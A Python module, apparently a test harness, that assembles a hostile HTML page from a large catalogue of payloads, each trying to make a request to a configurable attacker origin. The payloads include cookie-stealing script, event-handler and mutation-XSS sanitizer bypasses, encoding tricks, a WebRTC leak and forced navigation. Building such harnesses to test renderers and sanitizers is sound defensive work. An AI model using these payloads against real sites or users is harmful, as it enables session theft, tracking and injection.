"""A page that tries every way we know to reach somebody else: one kind of request each, told apart by the path it asks for."""

from __future__ import annotations

from collections.abc import Callable

HEAD: dict[str, str] = {
    "link-stylesheet": '<link rel=stylesheet href="{}">',
    "style-import": '<style>@import "{}";</style>',
    "style-import-url": "<style>@import url({}) screen;</style>",
    "style-import-escaped": "<style>@\\69mport '{}';</style>",
    "css-background": "<style>.bg1{{background:url({});width:9px;height:9px}}</style><div class=bg1></div>",
    "css-background-escaped": "<style>.bg2{{background:u\\72l('{}')}}</style><div class=bg2>x</div>",
    "css-image-set": '<style>.bg3{{background-image:image-set("{}" 1x)}}</style><div class=bg3>x</div>',
    "css-webkit-image-set": '<style>.bg4{{background-image:-webkit-image-set(url("{}") 1x)}}</style><div class=bg4>x</div>',
    "css-cross-fade": '<style>.bg5{{background-image:-webkit-cross-fade(url("{}"),url("{}"),50%)}}</style><div class=bg5>x</div>',
    "css-var": '<style>:root{{--u:url("{}")}}.bg6{{background:var(--u)}}</style><div class=bg6>x</div>',
    "css-var-string": '<style>:root{{--s:"{}"}}.bg7{{background-image:image-set(var(--s) 1x)}}</style><div class=bg7>x</div>',
    "css-attr": "<style>.bg8{{background-image:image-set(attr(data-u) 1x)}}</style><div class=bg8 data-u='{}'>x</div>",
    "css-cursor": "<style>html{{cursor:url({}),auto}}</style>",
    "css-list-style": "<style>.li1{{list-style-image:url({})}}</style><ul class=li1><li>x</ul>",
    "css-content": "<style>.c1::before{{content:url({})}}</style><p class=c1>x</p>",
    "css-border-image": "<style>.b1{{border:5px solid;border-image:url({}) 3}}</style><p class=b1>x</p>",
    "css-mask": "<style>.m1{{-webkit-mask-image:url({});mask-image:url({})}}</style><p class=m1>x</p>",
    "css-filter": "<style>.f1{{filter:url({}#f)}}</style><p class=f1>x</p>",
    "css-clip-path": "<style>.cp1{{clip-path:url({}#f)}}</style><p class=cp1>x</p>",
    "css-shape-outside": "<style>.so1{{float:left;shape-outside:url({})}}</style><p class=so1>x</p>",
    "css-nested": "<style>@media all{{@supports(color:red){{.n1{{background:url({})}}}}}}</style><p class=n1>x</p>",
    "css-keyframes": "<style>@keyframes k{{from{{background:url({})}}to{{color:red}}}}.k1{{animation:k 1s}}</style><p class=k1>x</p>",
    "css-namespace": '<style>@namespace x url("{}");@document url("{}"){{p{{color:red}}}}</style>',
    "font-face": "<style>@font-face{{font-family:evil;src:url({})}}.ff{{font-family:evil}}</style><p class=ff>x</p>",
    "css-comment-break": "<style>/*</style><img src='{}'>*/</style>",
    "css-string-break": "<style>p{{content:\"</style><img src='{}'>\"}}</style>",
    "link-prefetch": '<link rel=prefetch href="{}">',
    "link-prerender": '<link rel=prerender href="{}">',
    "link-preconnect": '<link rel=preconnect href="{}">',
    "link-dns-prefetch": '<link rel=dns-prefetch href="{}">',
    "link-icon": '<link rel="shortcut icon" href="{}"><link rel=apple-touch-icon href="{}">',
    "link-preload-font": '<link rel=preload as=font crossorigin href="{}">',
    "link-preload-image": '<link rel=preload as=image imagesrcset="{} 1x" href="{}">',
    "link-modulepreload": '<link rel=modulepreload href="{}">',
    "link-manifest": '<link rel=manifest href="{}">',
    "link-alternate": '<link rel="alternate stylesheet" title=a href="{}">',
    "speculation-rules": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{}"]}}]}}</script>',
    "import-map": '<script type=importmap>{{"imports":{{"a":"{}"}}}}</script><script type=module>import "a"</script>',
    "script-src": '<script src="{}"></script>',
    "script-fetch": "<script>fetch('{}')</script>",
    "script-beacon": "<script>navigator.sendBeacon('{}')</script>",
    "script-websocket": "<script>new WebSocket('{}'.replace('http','ws'))</script>",
    "script-cookie": "<script>new Image().src='{}?'+document.cookie</script>",
    "script-parent": "<script>try{{new Image().src='{}?'+parent.document.title}}catch(e){{new Image().src='{}'}}</script>",
    "script-top": "<script>setTimeout(()=>{{try{{top.location='{}'}}catch(e){{}}}},50)</script>",
    "script-open": "<script>open('{}')</script>",
    "script-worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{}')\"])))</script>",
    "script-rtc": "<script>const p=new RTCPeerConnection({{iceServers:[{{urls:'stun:'+'{}'.split('/')[2]}}]}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>",
}
BODY: dict[str, str] = {
    "img-src": '<img src="{}">',
    "img-srcset": '<img srcset="{} 1x, {} 2x">',
    "img-onerror": "<img src=x: onerror=\"this.src='{}'\">",
    "img-dynsrc": '<img dynsrc="{}" lowsrc="{}" src="{}">',
    "image-tag": '<image src="{}">',
    "picture-source": '<picture><source srcset="{}"><img alt=x></picture>',
    "svg-image": '<svg width=9 height=9><image href="{}" width=9 height=9 /></svg>',
    "svg-image-xlink": '<svg width=9 height=9><image xlink:href="{}" width=9 height=9 /></svg>',
    "svg-use": '<svg><use href="{}#x"/></svg>',
    "svg-script": '<svg><script href="{}"/></svg>',
    "svg-style": "<svg><style>rect{{fill:url({})}}</style><rect width=9 height=9 /></svg>",
    "svg-feimage": '<svg><filter id=fe><feImage href="{}"/></filter><rect width=9 height=9 filter="url(#fe)"/></svg>',
    "svg-foreign-object": '<svg width=99 height=99><foreignObject width=99 height=99><img src="{}"></foreignObject></svg>',
    "svg-set": "<svg><image width=9 height=9><set attributeName=href to='{}' /></image></svg>",
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src="{}"></annotation-xml></math>',
    "iframe": '<iframe src="{}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
    "iframe-data": '<iframe src="data:text/html,<img src={}>"></iframe>',
    "iframe-javascript": "<iframe src=\"javascript:fetch('{}')\"></iframe>",
    "object": '<object data="{}"></object>',
    "object-data": '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27><image href=%27{}%27/></svg>"></object>',
    "embed": '<embed src="{}">',
    "applet": '<applet archive="{}" code=x></applet>',
    "portal": '<portal src="{}"></portal>',
    "fencedframe": '<fencedframe src="{}"></fencedframe>',
    "frameset-in-body": '<frame src="{}">',
    "video": '<video src="{}" autoplay muted></video>',
    "video-poster": '<video poster="{}"></video>',
    "video-source": '<video autoplay muted><source src="{}"></video>',
    "video-track": '<video autoplay muted src="data:video/mp4,x"><track default kind=captions src="{}"></video>',
    "audio": '<audio src="{}" autoplay></audio>',
    "bgsound": '<bgsound src="{}">',
    "input-image": '<input type=image src="{}">',
    "body-background": '<table background="{}"><tr><td background="{}">x</table>',
    "style-attribute": "<div style=\"background:url('{}')\">x</div>",
    "style-attribute-expression": "<div style=\"width:expression(document.write('<img src={}>'))\">x</div>",
    "style-binding": "<div style=\"-moz-binding:url({});behavior:url({})\">x</div>",
    "form-submit": '<form action="{}" id=fs><input name=a value=b></form><script>fs.submit()</script>',
    "form-autofocus": "<input autofocus onfocus=\"fetch('{}')\">",
    "form-formaction": '<form><button formaction="{}" id=fa>x</button></form><script>fa.click()</script>',
    "ping": '<a href="#x" ping="{}" id=pa>x</a><script>pa.click()</script>',
    "onload": "<svg onload=\"fetch('{}')\"></svg>",
    "ontoggle": "<details open ontoggle=\"fetch('{}')\">x</details>",
    "onanimation": "<style>@keyframes z{{}}</style><p style=\"animation:z 1s\" onanimationstart=\"fetch('{}')\">x</p>",
    "onpointer-legacy": "<marquee onstart=\"fetch('{}')\">x</marquee><div onbeforescriptexecute=\"fetch('{}')\" onmousewheel=\"fetch('{}')\">x</div>",
    "shadow-root": '<div><template shadowrootmode=open><img src="{}"><style>:host{{background:url({})}}</style></template></div>',
    "template": '<template><img src="{}"></template>',
    "noscript-img": '<noscript><img src="{}"></noscript>',
    "mxss-noscript": '<noscript><p title="</noscript><img src={}>">',
    "mxss-style-in-svg": '<svg><style><img src="{}"></style></svg><svg></p><style><a title="</style><img src={}>">',
    "mxss-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={}&gt;" src="{}">',
    "mxss-form": '<form><math><mtext></form><form><mglyph><style></math><img src="{}">',
    "mxss-xmp": '<xmp><p title="</xmp><img src={}>"></xmp>',
    "mxss-textarea": '<textarea></textarea><textarea title="</textarea><img src={}>"></textarea>',
    "mxss-title": '<svg><title><style><a title="</title></svg><img src={}>"></style></title></svg>',
    "mxss-noembed": '<noembed><img title="</noembed><img src={}>"></noembed><iframe><!--</iframe><img src="{}">--></iframe>',
    "mxss-select": '<select><style></select><img src="{}"></style>',
    "mxss-cdata": '<svg><![CDATA[</svg><img src="{}">]]></svg>',
    "conditional-comment": '<!--[if IE]><img src="{}"><![endif]--><![if !IE]><img src="{}"><![endif]>',
    "comment-break": '<!--><img src="{}">--><!-- --!><img src="{}">',
    "utf-7": "+ADw-img src=+ACI-{}+ACI-+AD4-",
    "iso-2022-jp": '\x1b$B<img title="\x1b(B" src="{}">\x1b(B',
    "attribute-break": "<p title='\"><img src={}>' class=`><img src={}>`>x</p>",
    "nul-in-tag": '<i\0mg src="{}"><img\0src="{}"><img/src="{}">',
    "xlink-a": '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    "embedded-xml": '<?xml-stylesheet href="{}"?><xml id=x src="{}"></xml>',
    "css-in-body": "<p>x<style>body{{background:url({})}}</style></p>",
    "popover-command": '<a href="{}" target=_top id=tt download attributionsrc="{}">x</a><script>tt.click()</script>',
    "attributionsrc": '<img attributionsrc="{}" src="data:,">',
    "meta-refresh": '<meta http-equiv=refresh content="3;url={}">',
    "base-target": '<base href="{}/" target=_top><img src="below-base">',
}
PIECES = HEAD | BODY


Where = str | Callable[[str], str]
"""The attacker's origin, or that of each kind."""


def piece(kind: str, attacker: Where) -> str:
    address = f"{attacker if isinstance(attacker, str) else attacker(kind)}/{kind}"
    return PIECES[kind].format(*(address for _ in range(PIECES[kind].count("{}"))))


def page(attacker: Where, *, kinds: tuple[str, ...] = tuple(PIECES)) -> str:
    """The kinds that swallow what follows stand last."""
    greedy = ("mxss-", "noscript", "comment", "conditional", "iso-2022", "utf-7", "css-comment", "css-string", "nul-", "base-", "meta-")
    order = sorted(kinds, key=lambda k: k.startswith(greedy))
    return "<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body>\n<h1>可见的字 visible words</h1>\n" + "\n".join(
        piece(k, attacker) for k in order
    )
